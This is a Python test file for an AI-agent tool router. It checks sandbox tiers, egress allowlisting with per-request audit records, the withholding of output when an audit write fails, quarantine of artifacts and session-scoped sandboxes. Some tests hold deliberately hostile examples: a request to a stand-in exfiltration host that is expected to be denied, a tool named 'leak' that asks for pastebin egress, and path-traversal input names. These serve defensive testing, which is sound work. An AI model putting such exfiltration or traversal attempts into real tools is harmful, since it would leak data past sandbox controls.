"""The pipeline across sandbox tiers: tier raising, egress audited per call, inputs and outputs
in the audit log, and per-session sandboxes, through the real router."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, cast

import pytest

from policy import PolicySettings
from router import ControlPlane, InvalidCall, SessionNotFound, Settings
from router.audit import AuditEvent, AuditFilter
from router.errors import AuditError, ToolRefused
from router.settings import AuditSettings
from runner import RunnerSettings
from tests.conftest import (
    ALLOWED_HOST,
    ECHO,
    Upstream,
    copy_policies,
    edit_catalog,
    python_tool,
    sandbox_containers,
)


@pytest.fixture
async def plane(tmp_path: Path, runner_state: Path) -> AsyncIterator[ControlPlane]:
    """A router whose policy allowlists the test upstream for egress."""
    policies = copy_policies(tmp_path)
    edit_catalog(policies, egress_allowlist=[ALLOWED_HOST])
    settings = Settings(
        audit=AuditSettings(path=tmp_path / "audit.jsonl"),
        policy=PolicySettings(dir=policies),
        runner=RunnerSettings(state_dir=runner_state, pool_size=0, egress_hosts={ALLOWED_HOST: "127.0.0.1"}),
    )
    async with ControlPlane.from_settings(settings) as control_plane:
        yield control_plane


async def trail(plane: ControlPlane, decision_id: str) -> list[dict[str, Any]]:
    return [e.model_dump(mode="json") for e in await plane.audit.query(AuditFilter(decision_id=decision_id))]


async def test_code_execution_is_raised_to_gvisor_by_policy(plane: ControlPlane) -> None:
    await plane.register(python_tool("run_code", "import os\ndef main():\n    return os.uname().release",
                                     capabilities=["executes_code"]))  # fmt: skip
    session = await plane.open_session("agent-1", "alice@example.com")
    result = await plane.call(session, "run_code", {})
    assert result.ok
    assert result.tier == "gvisor"
    assert result.output == "4.4.0"  # gVisor's kernel, not the host's


@pytest.mark.parametrize("tier", ["bwrap", "docker", "gvisor"])
async def test_each_tier_runs_the_same_tool(plane: ControlPlane, tier: str) -> None:
    await plane.register(python_tool("echo", ECHO, sandbox={"tier": tier}))
    session = await plane.open_session("agent-1", "alice@example.com")
    result = await plane.call(session, "echo", {"msg": "héllo"})
    assert (result.ok, result.tier, result.output) == (True, tier, {"msg": "héllo"})


async def test_egress_is_granted_by_policy_and_every_request_audited(plane: ControlPlane, upstream: Upstream) -> None:
    source = f"""
import ssl, urllib.request, urllib.error
def main():
    ctx = ssl.create_default_context(cafile='/in/ca.pem')
    ok = urllib.request.urlopen('https://{ALLOWED_HOST}:{upstream.port}/', context=ctx, timeout=10).read().decode()
    try:
        urllib.request.urlopen('https://exfil.evil.test/', timeout=10)
        other = 'reached'
    except OSError:
        other = 'refused'
    return [ok, other]
"""
    await plane.register(python_tool("fetch", source, sandbox={
        "tier": "docker", "egress": [{"host": ALLOWED_HOST, "port": upstream.port}]}))  # fmt: skip
    session = await plane.open_session("agent-1", "alice@example.com")
    result = await plane.call(session, "fetch", {}, inputs={"ca.pem": upstream.ca_pem})
    assert result.ok, result.stderr
    assert result.output == ["hello from the allowlisted upstream", "refused"]
    events = await trail(plane, result.decision_id)
    decision = events[0]
    assert decision["result"]["obligations"]["egress"] == [{"host": ALLOWED_HOST, "port": upstream.port, "methods": []}]
    egress = [(e["outcome"], e["result"]["host"], e["result"]["status"]) for e in events if e["kind"] == "egress"]
    assert sorted(egress) == sorted([("allow", ALLOWED_HOST, 200), ("deny", "exfil.evil.test", 403)])
    assert events[-1]["kind"] == "execution"


class _EgressAppends:
    """The router's audit log, with its appends of egress events failing (``fail``: a log briefly
    unavailable while the tool's request is made, and back for its execution event; a real disk
    cannot be made to fail for exactly one append) or slow (``delay``: a Redis round trip under
    load, a group commit, so the run ends while the record is still being appended)."""

    def __init__(self, log: Any, *, fail: bool = False, delay: float = 0.0) -> None:
        self._log, self._fail, self._delay = log, fail, delay

    async def append(self, event: AuditEvent) -> AuditEvent:
        if event.kind == "egress":
            await asyncio.sleep(self._delay)
            if self._fail:
                raise AuditError("cannot append to audit log: No space left on device")
        return cast(AuditEvent, await self._log.append(event))

    def __getattr__(self, name: str) -> Any:
        return getattr(self._log, name)


async def _fetcher(plane: ControlPlane, upstream: Upstream) -> str:
    """Registers ``fetch`` (one HTTPS GET to the allowlisted upstream, on docker); a session to call it in."""
    source = f"""
import ssl, urllib.request
def main():
    ctx = ssl.create_default_context(cafile='/in/ca.pem')
    return urllib.request.urlopen('https://{ALLOWED_HOST}:{upstream.port}/', context=ctx, timeout=10).read().decode()
"""
    await plane.register(python_tool("fetch", source, sandbox={
        "tier": "docker", "egress": [{"host": ALLOWED_HOST, "port": upstream.port}]}))  # fmt: skip
    return await plane.open_session("agent-1", "alice@example.com")


async def test_a_request_the_log_could_not_take_withholds_the_output(plane: ControlPlane, upstream: Upstream) -> None:
    """Nothing unaudited: when the record of an egress request fails, the run goes on (the
    request is already made) but what it brought back never reaches the agent, and the execution
    event says how many requests are missing from the log."""
    session = await _fetcher(plane, upstream)
    plane.audit = _EgressAppends(plane.audit, fail=True)  # type: ignore[assignment]
    result = await plane.call(session, "fetch", {}, inputs={"ca.pem": upstream.ca_pem})
    assert (result.status, result.reasons, result.output, result.stdout) == ("error", ["audit.unavailable"], None, "")
    events = await trail(plane, result.decision_id)
    assert [e["kind"] for e in events] == ["decision", "execution"]
    assert (events[-1]["outcome"], events[-1]["result"]["unaudited_egress"]) == ("error", 1)


async def test_an_egress_record_still_being_appended_when_the_run_ends_is_waited_for(
    plane: ControlPlane, upstream: Upstream
) -> None:
    """The proxy closing at the end of the run once cancelled the append of a record it had just
    reported: the request was never on record, and the output left all the same. Now the append
    goes on, and the output is released only once it is done: decision, egress, execution."""
    session = await _fetcher(plane, upstream)
    plane.audit = _EgressAppends(plane.audit, delay=0.5)  # type: ignore[assignment]
    result = await plane.call(session, "fetch", {}, inputs={"ca.pem": upstream.ca_pem})
    assert (result.status, result.output) == ("completed", "hello from the allowlisted upstream")
    events = await trail(plane, result.decision_id)
    assert [e["kind"] for e in events] == ["decision", "egress", "execution"]
    assert events[-1]["result"]["unaudited_egress"] == 0


async def test_tool_asking_for_a_host_not_allowlisted_is_refused(plane: ControlPlane) -> None:
    """Every call to it would be denied, so it is refused at registration, audited, never run."""
    with pytest.raises(ToolRefused) as refused:
        await plane.register(python_tool("leak", ECHO, sandbox={"egress": [{"host": "pastebin.example", "port": 443}]}))
    assert refused.value.reasons == ["egress.not_allowlisted"]
    [event] = await plane.audit.query(AuditFilter(tool="leak"))
    assert (event.kind, event.outcome) == ("policy", "tool_refused")


@pytest.mark.parametrize("tier", ["bwrap", "docker", "gvisor"])
async def test_inputs_and_outputs_are_recorded_and_outputs_quarantined(plane: ControlPlane, tier: str) -> None:
    source = """
def main():
    text = open('/in/notes.txt').read()
    open('/out/upper.txt', 'w').write(text.upper())
    return len(text)
"""
    await plane.register(python_tool("shout", source, sandbox={"tier": tier, "outputs": {"max_files": 4}}))
    session = await plane.open_session("agent-1", "alice@example.com")
    result = await plane.call(session, "shout", {}, inputs={"notes.txt": b"quiet words"})
    assert result.ok, result.stderr
    assert result.output == 11
    [artifact] = result.artifacts
    assert (artifact.path, artifact.size, artifact.untrusted) == ("upper.txt", 11, True)
    assert (Path(result.quarantine or "") / "upper.txt").read_text() == "QUIET WORDS"
    execution = (await trail(plane, result.decision_id))[-1]["result"]
    assert execution["inputs"][0]["path"] == "notes.txt"
    assert execution["inputs"][0]["size"] == 11
    assert execution["artifacts"][0]["sha256"] == artifact.sha256


async def test_input_names_that_escape_in_are_invalid(plane: ControlPlane) -> None:
    await plane.register(python_tool("echo", ECHO))
    session = await plane.open_session("agent-1", "alice@example.com")
    for name in ("../evil", "a/b", "", ".."):
        with pytest.raises(InvalidCall, match="plain path component"):
            await plane.call(session, "echo", {}, inputs={name: b"x"})


async def test_session_mode_keeps_one_sandbox_per_session_until_it_closes(plane: ControlPlane) -> None:
    counter = "def main():\n    open('/tmp/n', 'a').write('.')\n    return len(open('/tmp/n').read())"
    await plane.register(python_tool("count", counter, sandbox={"tier": "docker", "mode": "session"}))
    first = await plane.open_session("agent-1", "alice@example.com")
    second = await plane.open_session("agent-1", "alice@example.com")
    outputs = [(await plane.call(s, "count", {})).output for s in (first, first, first, second)]
    assert outputs == [1, 2, 3, 1]  # state lives for one session, never crosses into another
    docker_box = plane.sandboxes["docker"]
    assert len(sandbox_containers(docker_box.owner)) == 2  # type: ignore[attr-defined]
    await plane.close_session(first)
    await plane.close_session(second)
    assert sandbox_containers(docker_box.owner) == []  # type: ignore[attr-defined]


async def test_an_idle_session_expires_and_its_sandbox_is_destroyed(tmp_path: Path, runner_state: Path) -> None:
    settings = Settings(
        audit=AuditSettings(path=tmp_path / "audit.jsonl"),
        runner=RunnerSettings(state_dir=runner_state, pool_size=0),
        session_idle_ttl_s=0.5,
    )
    async with ControlPlane.from_settings(settings) as plane:
        await plane.register(python_tool("remember", ECHO, sandbox={"tier": "docker", "mode": "session"}))
        session = await plane.open_session("agent-1", "alice@example.com")
        assert (await plane.call(session, "remember", {"x": 1})).ok
        docker_box = plane.sandboxes["docker"]
        assert len(sandbox_containers(docker_box.owner)) == 1  # type: ignore[attr-defined]
        for _ in range(150):  # the sweeper runs every ttl/2; removing a container can take seconds on a busy host
            await asyncio.sleep(0.1)
            if not sandbox_containers(docker_box.owner):  # type: ignore[attr-defined]
                break
        assert sandbox_containers(docker_box.owner) == []  # type: ignore[attr-defined]
        with pytest.raises(SessionNotFound):
            await plane.call(session, "remember", {"x": 2})


async def test_a_session_in_use_does_not_expire(tmp_path: Path, runner_state: Path) -> None:
    settings = Settings(
        audit=AuditSettings(path=tmp_path / "audit.jsonl"),
        runner=RunnerSettings(state_dir=runner_state, pool_size=0),
        session_idle_ttl_s=0.6,
    )
    async with ControlPlane.from_settings(settings) as plane:
        await plane.register(python_tool("echo", ECHO))
        session = await plane.open_session("agent-1", "alice@example.com")
        for _ in range(6):  # 1.2 s in all, never idle for 0.6 s
            await asyncio.sleep(0.2)
            assert (await plane.decide(session, "echo", {})).outcome == "allow"
        assert await plane.expire_sessions() == []
